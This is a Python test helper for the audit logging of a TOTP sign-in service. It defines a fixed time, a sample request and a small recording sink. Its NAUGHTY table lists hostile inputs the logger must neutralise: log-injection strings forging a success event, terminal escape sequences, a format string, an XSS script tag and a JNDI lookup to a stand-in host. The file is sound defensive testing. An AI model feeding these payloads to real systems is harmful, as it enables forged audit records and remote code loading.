"""What the tests here ask with."""

from __future__ import annotations

import json
from dataclasses import dataclass, field

from totp_gate.telemetry.audit import Occasion

#: 2026-03-01T12:00:00.250Z
NOON = 1772366400.25
ALICE_HERE = Occasion(
    now=NOON, address="192.0.2.7", request_id="0123456789ab", agent="Browser/1.0"
)

#: What people and attackers type, and what must not come out as it went in.
NAUGHTY = {
    "carriage return": "a\rb",
    "line feed": 'a\n{"event": "sign-in.code", "outcome": "success"}',
    "line separator": "a\u2028b",
    "paragraph separator": "a\u2029b",
    "next line": "a\x85b",
    "escape": "\x1b[2Ja",
    "control sequence": "a\x9b31mb",
    "delete": "a\x7f\x7fb",
    "vertical tab": "a\x0bb",
    "form feed": "a\x0cb",
    "information separators": "a\x1cb\x1db\x1eb\x1fb",
    "backspace": "a\x08b",
    "link of a terminal": "\x1b]8;;http://192.0.2.1\x07a\x1b]8;;\x07",
    "title of a terminal": "\x9d0;a\x9c",
    "octets as latin-1": "\xe2\x80\xa8\xc2\x85",
    "nul": "a\x00b",
    "quote": 'a", "outcome": "success',
    "backslash": "a\\",
    "right to left": "a\u202etxt.exe",
    "zero width": "a\u200bb",
    "half of a character": "a\ud800b",
    "beyond the plane": "\U0001f600" * 300,
    "long": "x" * 100_000,
    "tag characters": "a\U000e0041b",
    "byte order mark": "\ufeffa",
    "format string": "%s%n{0}{event}",
    "html": "<script>alert(1)</script>",
    "lookup": "${jndi:ldap://192.0.2.1/a}",
}


@dataclass
class Lines:
    """A sink that remembers."""

    written: list[str] = field(default_factory=list)

    def __call__(self, line: str) -> None:
        self.written.append(line)

    def parsed(self) -> list[dict[str, str]]:
        return [json.loads(line) for line in self.written]
